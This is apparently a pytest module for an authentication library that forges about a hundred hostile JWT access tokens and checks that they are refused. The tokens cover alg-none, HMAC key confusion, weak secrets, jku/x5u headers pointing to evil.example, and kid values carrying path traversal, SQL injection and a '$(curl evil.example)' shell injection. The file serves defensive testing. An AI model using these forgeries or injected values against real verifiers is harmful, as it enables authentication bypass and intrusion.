"""Forged access tokens, refused by the core and by a guarded route alike (STYLE.md §8).

Each row is a small function that turns a genuine session (the server's key ring, the
time, a valid access token and its refresh token) into a hostile token. Rows that attack
one check keep everything else genuine, signature included, so they fail only there.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import itertools
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cache

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.x509.oid import NameOID
from fastapi.testclient import TestClient
from joserfc.jwk import RSAKey
from joserfc.jws import JWSRegistry

from authgate.core.keys import KeyRing, SigningKey, generate_key
from authgate.core.tokens import LEEWAY
from authgate.errors import InvalidToken
from authgate.service import Service
from helpers import bearer

EMAIL = "ada@example.com"


@dataclass(frozen=True)
class Target:
    """What an attacker may know: the public keys, the time and their own tokens."""

    keys: KeyRing
    now: datetime
    access_token: str
    refresh_token: str

    @property
    def header(self) -> dict[str, object]:
        return decoded(self.access_token.split(".")[0])

    @property
    def claims(self) -> dict[str, object]:
        return decoded(self.access_token.split(".")[1])

    @property
    def signature(self) -> str:
        return self.access_token.split(".")[2]

    @property
    def server_key(self) -> SigningKey:
        return self.keys.signing


Forge = Callable[[Target], str]


# -- building blocks ---------------------------------------------------------


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def encoded(value: object) -> str:
    return b64(json.dumps(value, separators=(",", ":")).encode())


def unb64(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def decoded(part: str) -> dict[str, object]:
    value: dict[str, object] = json.loads(unb64(part))
    return value


def signed_by(key: SigningKey, header: dict[str, object], claims: object) -> str:
    signing_input = f"{encoded(header)}.{encoded(claims)}"
    return f"{signing_input}.{b64(key.algorithm.sign(signing_input.encode(), key.jwk))}"


def server_signed(
    t: Target,
    *,
    header: dict[str, object] | None = None,
    claims: dict[str, object] | None = None,
    drop: tuple[str, ...] = (),
) -> str:
    """A token signed with the server's real key, with some header or claim edits."""
    new_header = {k: v for k, v in {**t.header, **(header or {})}.items() if k not in drop}
    return signed_by(t.server_key, new_header, {**t.claims, **(claims or {})})


def hmac_signed(alg: str, secret: bytes, header: dict[str, object], claims: object) -> str:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    signing_input = f"{encoded({**header, 'alg': alg})}.{encoded(claims)}"
    return f"{signing_input}.{b64(hmac.new(secret, signing_input.encode(), digest).digest())}"


def integer(value: object) -> int:
    assert isinstance(value, int)
    return value


@cache
def attacker_key() -> SigningKey:
    """An RS256 key the attacker made, with its own kid."""
    return generate_key("RS256", now=datetime(2030, 1, 1, tzinfo=UTC))


@cache
def attacker_small_rsa() -> rsa.RSAPrivateKey:
    """A 1024-bit RSA key: small enough that its JWK or certificate fits in a header."""
    # The attacker's own key: its strength is beside the point of the attack.
    return rsa.generate_private_key(public_exponent=65537, key_size=1024)  # noqa: S505


def rs256_by_attacker(header: dict[str, object], claims: object) -> str:
    signing_input = f"{encoded({**header, 'alg': 'RS256'})}.{encoded(claims)}"
    signature = attacker_small_rsa().sign(
        signing_input.encode(), padding.PKCS1v15(), hashes.SHA256()
    )
    return f"{signing_input}.{b64(signature)}"


def attacker_jwk() -> dict[str, object]:
    numbers = attacker_small_rsa().public_key().public_numbers()
    return {
        "kty": "RSA",
        "n": b64(numbers.n.to_bytes((numbers.n.bit_length() + 7) // 8, "big")),
        "e": b64(numbers.e.to_bytes(3, "big")),
    }


def attacker_certificate(*extensions: x509.ExtensionType) -> str:
    """A self-signed attacker certificate (base64 DER, as x5c carries it)."""
    key = attacker_small_rsa()
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "a")])
    start = datetime(2030, 1, 1, tzinfo=UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=1))
    )
    for extension in extensions:
        builder = builder.add_extension(extension, critical=False)
    cert = builder.sign(key, hashes.SHA256())
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


# -- the forgeries -----------------------------------------------------------


def alg_none(casing: str, signature: str) -> Forge:
    def forge(t: Target) -> str:
        unsigned = f"{encoded({**t.header, 'alg': casing})}.{encoded(t.claims)}"
        ending = {"none": "", "empty": ".", "original": "." + t.signature}[signature]
        return unsigned + ending

    return forge


def signature_stripped(t: Target) -> str:
    head, payload, _ = t.access_token.split(".")
    return f"{head}.{payload}."


def sub_edited_after_signing(t: Target) -> str:
    head, _, signature = t.access_token.split(".")
    return f"{head}.{encoded({**t.claims, 'sub': 'another-user'})}.{signature}"


def exp_extended_after_signing(t: Target) -> str:
    head, _, signature = t.access_token.split(".")
    claims = {**t.claims, "exp": integer(t.claims["exp"]) + 86_400}
    return f"{head}.{encoded(claims)}.{signature}"


def signature_bit_flipped(where: str, mask: int) -> Forge:
    """One bit of the signature's bytes flipped, at the first, middle or last byte."""

    def forge(t: Target) -> str:
        head, payload, signature = t.access_token.split(".")
        raw = bytearray(unb64(signature))
        raw[{"first": 0, "middle": len(raw) // 2, "last": -1}[where]] ^= mask
        return f"{head}.{payload}.{b64(bytes(raw))}"

    return forge


def payload_bit_flipped(t: Target) -> str:
    """One bit flipped in the claims' bytes (the jti's first character), signature kept."""
    head, payload, signature = t.access_token.split(".")
    raw = bytearray(unb64(payload))
    raw[raw.index(b'"jti":"') + len('"jti":"')] ^= 0x20
    return f"{head}.{b64(bytes(raw))}.{signature}"


def header_reserialized(t: Target) -> str:
    """The same header, its members reordered and spaced: other bytes, same meaning."""
    _, payload, signature = t.access_token.split(".")
    header = json.dumps(dict(reversed(list(t.header.items())))).encode()
    return f"{b64(header)}.{payload}.{signature}"


def signature_transplanted(t: Target) -> str:
    """The signature of another genuine token (another jti) on this token's content."""
    other = server_signed(t, claims={"jti": "another-token-id"})
    head, payload, _ = t.access_token.split(".")
    return f"{head}.{payload}.{other.split('.')[2]}"


def signature_resized(change: int) -> Forge:
    def forge(t: Target) -> str:
        head, payload, signature = t.access_token.split(".")
        raw = unb64(signature)
        raw = raw[:change] if change < 0 else raw + b"\0" * change
        return f"{head}.{payload}.{b64(raw)}"

    return forge


def signature_zeroed(t: Target) -> str:
    head, payload, signature = t.access_token.split(".")
    return f"{head}.{payload}.{b64(bytes(len(unb64(signature))))}"


def relabelled_as_ps256(t: Target) -> str:
    """Signed with the server's RSA key under PS256, which is not the key's algorithm."""
    header = {**t.header, "alg": "PS256"}
    signing_input = f"{encoded(header)}.{encoded(t.claims)}"
    signature = JWSRegistry.algorithms["PS256"].sign(signing_input.encode(), t.server_key.jwk)
    return f"{signing_input}.{b64(signature)}"


PublicForm = Callable[[Target], bytes]


def server_public_key(t: Target) -> rsa.RSAPublicKey:
    assert isinstance(t.server_key.jwk, RSAKey)
    public = t.server_key.jwk.public_key
    assert isinstance(public, rsa.RSAPublicKey)
    return public


def public_bytes(encoding: serialization.Encoding, form: serialization.PublicFormat) -> PublicForm:
    return lambda t: server_public_key(t).public_bytes(encoding, form)


def served_json(value: object) -> bytes:
    """JSON as Starlette's JSONResponse writes it, byte for byte."""
    return json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode()


def jwk_n(t: Target) -> str:
    return str(t.server_key.public_jwk()["n"])


PEM, DER, OPENSSH = (
    serialization.Encoding.PEM,
    serialization.Encoding.DER,
    serialization.Encoding.OpenSSH,
)
SPKI, PKCS1 = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1
# The server's public key in every encoding an attacker can get it in, from the JWKS or a PEM.
PUBLIC_KEY_FORMS: dict[str, PublicForm] = {
    "spki-pem": public_bytes(PEM, SPKI),
    "spki-pem-no-final-newline": lambda t: public_bytes(PEM, SPKI)(t).rstrip(b"\n"),
    "pkcs1-pem": public_bytes(PEM, PKCS1),
    "spki-der": public_bytes(DER, SPKI),
    "pkcs1-der": public_bytes(DER, PKCS1),
    "openssh": public_bytes(OPENSSH, serialization.PublicFormat.OpenSSH),
    "jwk-json": lambda t: json.dumps(t.server_key.public_jwk()).encode(),
    "jwks-entry-as-served": lambda t: served_json(t.server_key.public_jwk()),
    "jwks-document-as-served": lambda t: served_json(t.keys.jwks()),
    "jwk-n-base64url": lambda t: jwk_n(t).encode(),
    "jwk-n-raw-bytes": lambda t: unb64(jwk_n(t)),
}


def hmac_with_public_key(alg: str, form: PublicForm) -> Forge:
    """Key confusion: HMAC keyed with the server's public key, in some public encoding."""

    def forge(t: Target) -> str:
        return hmac_signed(alg, form(t), t.header, t.claims)

    return forge


def hmac_with_secret(secret: bytes, alg: str = "HS256") -> Forge:
    def forge(t: Target) -> str:
        return hmac_signed(alg, secret, t.header, t.claims)

    return forge


def hmac_with_kid(kid: str, secret: bytes) -> Forge:
    """A kid that would make a naive key lookup yield `secret`, and an HMAC keyed with it."""

    def forge(t: Target) -> str:
        return hmac_signed("HS256", secret, {**t.header, "kid": kid}, t.claims)

    return forge


def signed_by_unknown_key(t: Target) -> str:
    key = attacker_key()
    return signed_by(key, {**t.header, "kid": key.kid}, t.claims)


def attacker_key_under_server_kid(t: Target) -> str:
    return signed_by(attacker_key(), t.header, t.claims)


def kid_missing(t: Target) -> str:
    return server_signed(t, drop=("kid",))


def kid_is(kid: object) -> Forge:
    def forge(t: Target) -> str:
        return server_signed(t, header={"kid": kid})

    return forge


def header_by_attacker(name: str, value: Callable[[], object]) -> Forge:
    """A header naming outside key material, signed by the attacker under the server's kid."""

    def forge(t: Target) -> str:
        return rs256_by_attacker({**t.header, name: value()}, t.claims)

    return forge


def header_on_genuine_signature(name: str, value: Callable[[], object]) -> Forge:
    """A header authgate does not accept, on a token the server itself signed."""

    def forge(t: Target) -> str:
        return server_signed(t, header={name: value()})

    return forge


def unknown_crit(t: Target) -> str:
    return server_signed(
        t, header={"crit": ["urn:example:must-understand"], "urn:example:must-understand": True}
    )


def crit_empty(t: Target) -> str:
    return server_signed(t, header={"crit": []})


def unencoded_payload(t: Target) -> str:
    """RFC 7797 `b64: false`, which would make the verifier read the segment as raw bytes."""
    return server_signed(t, header={"b64": False, "crit": ["b64"]})


def expired_beyond_leeway(t: Target) -> str:
    exp = int((t.now - LEEWAY).timestamp()) - 1
    return server_signed(t, claims={"iat": exp - 900, "exp": exp})


def not_before_in_the_future(t: Target) -> str:
    return server_signed(t, claims={"nbf": int((t.now + LEEWAY).timestamp()) + 60})


def not_before_just_beyond_leeway(t: Target) -> str:
    return server_signed(t, claims={"nbf": int((t.now + LEEWAY).timestamp()) + 1})


def expired_at_the_edge_of_leeway(t: Target) -> str:
    """`exp` exactly one leeway ago: the first instant the token is refused."""
    exp = int((t.now - LEEWAY).timestamp())
    return server_signed(t, claims={"iat": exp - 900, "exp": exp})


def issued_in_the_future(t: Target) -> str:
    iat = int((t.now + LEEWAY).timestamp()) + 60
    return server_signed(t, claims={"iat": iat, "exp": iat + 900})


def claim_missing(name: str) -> Forge:
    def forge(t: Target) -> str:
        return signed_by(t.server_key, t.header, {k: v for k, v in t.claims.items() if k != name})

    return forge


def claims_edited(**changes: object) -> Forge:
    def forge(t: Target) -> str:
        return server_signed(t, claims=changes)

    return forge


def typ(value: str) -> Forge:
    def forge(t: Target) -> str:
        return server_signed(t, header={"typ": value})

    return forge


def typ_missing(t: Target) -> str:
    return server_signed(t, drop=("typ",))


def payload_is_a_list(t: Target) -> str:
    return signed_by(t.server_key, t.header, [t.claims])


def refresh_token_as_access_token(t: Target) -> str:
    return t.refresh_token


def jwe_shaped(t: Target) -> str:
    header = {"alg": "RSA-OAEP", "enc": "A256GCM", "kid": t.server_key.kid, "typ": "at+jwt"}
    return ".".join(
        [encoded(header), b64(b"k" * 256), b64(b"iv" * 6), b64(b"c" * 64), b64(b"t" * 16)]
    )


def four_segments(t: Target) -> str:
    return t.access_token + "." + t.signature


def signed_of_size(size: int) -> Forge:
    """A genuinely signed token whose e-mail claim makes it about `size` bytes long."""

    def forge(t: Target) -> str:
        return server_signed(t, claims={"email": "a" * (size * 3 // 4) + "@example.com"})

    return forge


def segments(*parts: str) -> Forge:
    """A token of the given segments, each "h", "p" or "s" (the genuine one) or literal."""

    def forge(t: Target) -> str:
        genuine = dict(zip("hps", t.access_token.split("."), strict=True))
        return ".".join(genuine.get(part, part) for part in parts)

    return forge


def constant(value: str) -> Forge:
    def forge(t: Target) -> str:
        return value

    return forge


def casings(word: str) -> list[str]:
    """Every upper/lower-case spelling of `word`: none, nonE, ... NONE."""
    return ["".join(letters) for letters in itertools.product(*((c, c.upper()) for c in word))]


ALG_NONE = [
    pytest.param(alg_none(casing, ending), id=f"alg-{casing}-{ending}-signature")
    for casing in casings("none")
    for ending in ("none", "empty", "original")
]
KEY_CONFUSION = [
    pytest.param(hmac_with_public_key(alg, form), id=f"{alg.lower()}-keyed-with-public-{name}")
    for alg in ("HS256", "HS384", "HS512")
    for name, form in PUBLIC_KEY_FORMS.items()
]
WEAK_SECRETS = {
    "empty": b"",
    "secret": b"secret",
    "password": b"password",
    "changeme": b"changeme",
    "jwt-io-default": b"your-256-bit-secret",
    "jsonwebtoken-readme": b"shhhhh",  # the Express tutorials' `jwt.sign(..., 'shhhhh')`
    "env-var-name": b"ACCESS_TOKEN_SECRET",  # a .env line pasted without its value
    "js-undefined": b"undefined",  # `process.env.ACCESS_TOKEN_SECRET` unset, stringified
}
WEAK_HMAC = [
    pytest.param(hmac_with_secret(secret, alg), id=f"{alg.lower()}-{name}-secret")
    for alg in ("HS256", "HS384", "HS512")
    for name, secret in WEAK_SECRETS.items()
]
BIT_FLIPS = [
    pytest.param(signature_bit_flipped(where, mask), id=f"signature-bit-flip-{where}-byte-{bit}")
    for where in ("first", "middle", "last")
    for bit, mask in (("low-bit", 0x01), ("high-bit", 0x80))
]
FORGERIES = [
    *ALG_NONE,
    pytest.param(signature_stripped, id="signature-stripped"),
    pytest.param(sub_edited_after_signing, id="tampered-sub"),
    pytest.param(exp_extended_after_signing, id="tampered-exp"),
    pytest.param(payload_bit_flipped, id="payload-bit-flip"),
    pytest.param(header_reserialized, id="header-reserialized-keeping-signature"),
    *BIT_FLIPS,
    pytest.param(signature_resized(-1), id="signature-one-byte-short"),
    pytest.param(signature_resized(1), id="signature-one-byte-long"),
    pytest.param(signature_zeroed, id="signature-all-zero-bytes"),
    pytest.param(signature_transplanted, id="signature-from-another-genuine-token"),
    pytest.param(relabelled_as_ps256, id="rsa-key-relabelled-ps256"),
    *KEY_CONFUSION,
    *WEAK_HMAC,
    pytest.param(signed_by_unknown_key, id="unknown-kid"),
    pytest.param(attacker_key_under_server_kid, id="attacker-key-under-server-kid"),
    pytest.param(kid_missing, id="kid-missing"),
    pytest.param(kid_is(""), id="kid-empty"),
    pytest.param(kid_is("../../etc/passwd"), id="kid-path-traversal"),
    pytest.param(kid_is("..%2F..%2Fetc%2Fpasswd"), id="kid-path-traversal-url-encoded"),
    pytest.param(hmac_with_kid("../../../../../../dev/null", b""), id="kid-dev-null-empty-hmac"),
    pytest.param(kid_is("' OR 1=1 --"), id="kid-sql-injection"),
    pytest.param(
        hmac_with_kid("x' UNION SELECT 'attacker-secret' -- ", b"attacker-secret"),
        id="kid-sql-union-hmac-with-selected-secret",
    ),
    pytest.param(kid_is("$(curl evil.example)|id;"), id="kid-shell-injection"),
    pytest.param(kid_is("k" * 10 * 1024), id="kid-10kb"),
    pytest.param(kid_is("k" * 64 * 1024), id="kid-64-kib"),
    pytest.param(kid_is(["a list"]), id="kid-not-a-string"),
    pytest.param(kid_is(None), id="kid-null"),
    pytest.param(header_by_attacker("jku", lambda: "https://evil.example/jwks.json"), id="jku"),
    pytest.param(header_by_attacker("x5u", lambda: "https://evil.example/cert.pem"), id="x5u"),
    pytest.param(header_by_attacker("jwk", attacker_jwk), id="jwk-embedded-attacker-key"),
    pytest.param(header_by_attacker("x5c", lambda: [attacker_certificate()]), id="x5c"),
    pytest.param(
        header_on_genuine_signature("jku", lambda: "https://evil.example/jwks.json"),
        id="jku-on-genuine-signature",
    ),
    pytest.param(
        header_on_genuine_signature("x5u", lambda: "https://evil.example/cert.pem"),
        id="x5u-on-genuine-signature",
    ),
    pytest.param(header_on_genuine_signature("jwk", attacker_jwk), id="jwk-on-genuine-signature"),
    # A real certificate makes the header too big to parse; this one reaches the header check.
    pytest.param(
        header_on_genuine_signature("x5c", lambda: ["MIIB"]), id="x5c-on-genuine-signature"
    ),
    pytest.param(unknown_crit, id="unknown-crit"),
    pytest.param(crit_empty, id="crit-empty-list"),
    pytest.param(unencoded_payload, id="rfc7797-b64-false"),
    pytest.param(expired_beyond_leeway, id="expired-beyond-leeway"),
    pytest.param(expired_at_the_edge_of_leeway, id="expired-exactly-one-leeway-ago"),
    pytest.param(not_before_in_the_future, id="nbf-in-the-future"),
    pytest.param(not_before_just_beyond_leeway, id="nbf-one-second-beyond-leeway"),
    pytest.param(issued_in_the_future, id="iat-in-the-future"),
    pytest.param(claim_missing("exp"), id="exp-missing"),
    pytest.param(claim_missing("iat"), id="iat-missing"),
    pytest.param(claim_missing("sid"), id="sid-missing"),
    pytest.param(claims_edited(aud="another-api"), id="wrong-audience"),
    pytest.param(
        claims_edited(aud=["another-api", "yet-another"]), id="audience-list-without-ours"
    ),
    pytest.param(claims_edited(aud=[]), id="empty-audience"),
    pytest.param(claims_edited(iss="https://evil.example"), id="wrong-issuer"),
    pytest.param(claims_edited(iss="http://localhost:8000/"), id="issuer-with-trailing-slash"),
    pytest.param(claims_edited(iss="HTTP://LOCALHOST:8000"), id="issuer-in-capitals"),
    pytest.param(claims_edited(exp="2100-01-01"), id="exp-as-string"),
    pytest.param(claims_edited(exp=True), id="exp-as-boolean"),
    pytest.param(claims_edited(sub=None), id="sub-null"),
    pytest.param(payload_is_a_list, id="payload-json-array"),
    pytest.param(typ("JWT"), id="typ-jwt"),
    pytest.param(typ("application/jwt"), id="typ-application-jwt"),
    pytest.param(typ("id_token+jwt"), id="typ-id-token"),
    pytest.param(typ_missing, id="typ-missing"),
    pytest.param(refresh_token_as_access_token, id="refresh-token-as-bearer"),
    pytest.param(jwe_shaped, id="jwe-five-segments"),
    pytest.param(four_segments, id="four-segments"),
    pytest.param(segments("h", "p", "s", ""), id="genuine-with-trailing-dot"),
    pytest.param(segments("h", "p"), id="two-segments"),
    pytest.param(segments("h", "p", "s", "h", "p", "s"), id="six-segments"),
    pytest.param(segments("", "", ""), id="empty-segments"),
    pytest.param(segments("h", "", "s"), id="payload-segment-empty"),
    pytest.param(signed_of_size(64 * 1024), id="64-kib"),
    pytest.param(signed_of_size(1024 * 1024), id="1-mib"),
    pytest.param(constant("A" * 1024 * 1024), id="1-mib-of-junk"),
    pytest.param(constant(""), id="empty-string"),
    pytest.param(constant("!!!.@@@.###"), id="non-base64-garbage"),
    pytest.param(constant("not-a-token"), id="one-segment"),
]


# -- the two surfaces ------------------------------------------------------------
#
# Reading a token changes nothing, so every row shares one service and one app per module
# rather than building them (database, migrations, RSA key) for each of the ~100 cases.


def test_genuine_token_is_accepted_by_the_core(
    shared_service: Service, core_target: Target
) -> None:
    """The control row: without a forgery, the same setup lets the token through."""
    assert shared_service.read(core_target.access_token).email == EMAIL


def test_genuine_token_is_accepted_by_a_guarded_route(
    shared_client: TestClient, http_target: Target
) -> None:
    """The control row: without a forgery, the same setup lets the token through."""
    response = shared_client.get("/test", headers=bearer(http_target.access_token))

    assert response.status_code == 200


@pytest.mark.parametrize("forge", FORGERIES)
def test_forged_access_token_is_refused_by_the_core(
    forge: Forge, shared_service: Service, core_target: Target
) -> None:
    token = forge(core_target)

    with pytest.raises(InvalidToken):
        shared_service.read(token)


@pytest.mark.parametrize("forge", FORGERIES)
def test_forged_access_token_is_refused_by_a_guarded_route(
    forge: Forge, shared_client: TestClient, http_target: Target
) -> None:
    response = shared_client.get("/test", headers=bearer(forge(http_target)))

    body = response.json()
    assert (
        response.status_code,
        'error="invalid_token"' in response.headers.get("WWW-Authenticate", ""),
        body["error"],
        sorted(body),
    ) == (401, True, "invalid_token", ["detail", "error"])
